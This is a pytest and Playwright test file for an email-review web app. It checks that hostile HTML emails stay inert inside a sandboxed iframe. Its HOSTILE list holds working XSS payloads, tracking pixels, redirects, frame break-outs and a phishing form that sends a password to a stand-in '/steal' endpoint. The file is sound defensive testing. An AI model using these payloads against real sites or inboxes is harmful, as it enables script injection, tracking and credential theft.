"""HTML emails in a real browser: whatever one tries, nothing runs, loads, sends, leads away or leaves its frame."""

import select
from collections.abc import Iterator
from dataclasses import dataclass
from socket import socket

import pytest
from playwright.sync_api import Browser, Page, Route

from intake.web.pages.emails import FRAME_POLICY
from intake.web.serving import listen
from tests.building import raw_email
from tests.people import ASHA, BEN, REVIEW
from tests.web.browser import PHONE, Front, assert_accessible, assert_fits, open_front

STRANGER = "http://127.0.0.1:{port}"
HOSTILE = {
    "script": "<script>top.broken = 1; parent.document.title = 'broken'; fetch('/sign-out')</script>",
    "event": "<img src=x onerror='top.broken = 1'><svg onload='top.broken = 1'><body onload='top.broken = 1'>",
    "script-link": "<a id=bait href='javascript:top.broken=1' style='position:fixed;inset:0'>Read more</a>",
    "remote-picture": f"<img src='{STRANGER}/seen.png'><img srcset='{STRANGER}/seen.png 1x'>",
    "remote-style": f"<link rel=stylesheet href='{STRANGER}/s.css'><style>@import '{STRANGER}/s.css'; "
    f"body {{ background: url({STRANGER}/b.png) }}</style><p style='background:url({STRANGER}/b.png)'>words</p>",
    "remote-media": f"<video src='{STRANGER}/v.mp4' autoplay></video><audio src='{STRANGER}/a.mp3' autoplay></audio>"
    f"<object data='{STRANGER}/o'></object><embed src='{STRANGER}/e'>",
    "hints": f"<link rel=preload as=image href='{STRANGER}/p.png'><link rel=dns-prefetch href='{STRANGER}'>"
    f"<link rel=icon href='{STRANGER}/i.ico'>",
    "frame": f"<iframe src='{STRANGER}/f'></iframe><iframe srcdoc='<script>top.broken=1</script>'></iframe>",
    "redirect": f"<meta http-equiv=refresh content='0;url={STRANGER}/r'><base href='{STRANGER}/' target=_top>",
    "phishing": f"<form id=f action='{STRANGER}/steal' target=_top><input name=password autofocus>"
    "<button id=bait style='position:fixed;inset:0'>Sign in again</button></form>",
    "link": f"<a id=bait href='{STRANGER}/away' target=_top style='position:fixed;inset:0'>Your response</a>",
    "break-out": "</div></body></html></iframe><script>top.broken = 1</script><h1>The council</h1>",
}


@dataclass
class Reading:
    """The pages with one response whose email tries everything, and a stranger's server that waits to be asked."""

    front: Front
    reference: str
    stranger: socket

    def letter(self, *tricks: str) -> str:
        address = STRANGER.format(port=self.stranger.getsockname()[1])
        body = "".join(HOSTILE[name] for name in tricks).replace(STRANGER, address)
        return f"<!DOCTYPE html><html><head><title>Letter</title></head><body><p>We agree.</p>{body}</body></html>"

    def open_letter(self, page: Page) -> None:
        page.goto(f"/responses/{self.reference}")
        with page.expect_response("**/emails/*/html"):
            page.get_by_text("Show the whole email").click()
            page.locator("iframe").scroll_into_view_if_needed()
        page.frames[1].wait_for_load_state()

    def assert_untouched(self, page: Page) -> None:
        """Clicks where a bait covers the frame, and finds that nothing came of anything."""
        box = page.locator("iframe").bounding_box()
        assert box
        page.mouse.click(box["x"] + box["width"] / 2, box["y"] + min(box["height"], 200) / 2)
        page.mouse.click(box["x"] + 40, box["y"] + 30)
        page.wait_for_timeout(100)
        assert page.url == f"{self.front.base_url}/responses/{self.reference}"
        assert page.title().startswith(self.reference)
        assert page.evaluate("() => window.broken") is None
        assert page.context.pages == [page]
        assert f"{self.front.base_url}/sign-out" not in self.front.requested
        assert self._calls() == []

    def _calls(self) -> list[bytes]:
        """What the stranger's server was asked since the last look.

        Chromium opens a connection to where a frame would be before it judges whether it may: seen, and silent.
        """
        asked = []
        while select.select([self.stranger], [], [], 0)[0]:
            caller, _ = self.stranger.accept()
            with caller:
                if select.select([caller], [], [], 0.2)[0]:
                    asked.append(caller.recv(1000))
        return asked


@pytest.fixture(scope="module")
def reading(tmp_path_factory: pytest.TempPathFactory, chromium: Browser) -> Iterator[Reading]:
    with listen("127.0.0.1", 0) as stranger, open_front(tmp_path_factory.mktemp("reading"), chromium) as front:
        made = Reading(front, "", stranger)
        front.office.receive(raw_email(sender=BEN, to=REVIEW, html=made.letter(*HOSTILE)))
        front.office.cycle()
        (response,) = front.office.responses()
        made.reference = response.reference
        yield made


def test_a_hostile_email_is_shown_as_its_words_and_does_nothing(reading: Reading) -> None:
    page = reading.front.open("/accessibility", who=ASHA)
    reading.open_letter(page)
    assert page.frame_locator("iframe").get_by_text("We agree.").is_visible()
    assert_accessible(page)
    reading.assert_untouched(page)
    reading.front.leave()
    assert reading.front.troubles == []


@pytest.mark.parametrize("trick", HOSTILE)
def test_even_an_email_nobody_cleaned_is_held_by_its_frame(reading: Reading, trick: str) -> None:
    """The second and third fence alone: the frame is given the letter as it came."""

    def as_it_came(route: Route) -> None:
        headers = {"Content-Security-Policy": FRAME_POLICY, "Content-Type": "text/html"}
        route.fulfill(body=reading.letter(trick), headers=headers)

    page = reading.front.open("/accessibility", who=ASHA)
    page.route("**/emails/*/html", as_it_came)
    reading.open_letter(page)
    reading.assert_untouched(page)
    reading.front.leave()
    reading.front.troubles.clear()  # Chromium says what the fences stopped


def test_an_email_opened_by_itself_says_where_its_links_lead_and_fits_a_phone(reading: Reading) -> None:
    page = reading.front.open(f"/responses/{reading.reference}", who=ASHA, size=PHONE)
    page.get_by_text("Show the whole email").click()
    page.get_by_role("link", name="Open it by itself").click()
    assert "We agree." in page.inner_text("body")
    assert "/away]" in page.inner_text("body")
    assert_fits(page)
    reading.front.leave()
    assert reading.front.troubles == []
